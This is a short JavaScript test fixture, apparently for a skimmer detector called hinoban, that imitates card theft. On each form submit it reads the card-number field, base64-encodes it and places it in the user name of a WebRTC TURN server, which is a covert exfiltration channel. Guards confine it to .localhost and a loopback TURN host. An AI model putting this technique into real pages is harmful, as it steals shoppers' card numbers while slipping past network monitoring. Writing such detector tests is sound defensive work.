/* Harmless imitation, for hinoban's tests: WebRTC: the card in a TURN user name. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var pc = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:3479', username: btoa(n.value), credential: 'x'}]});
		pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
	 } }, true);
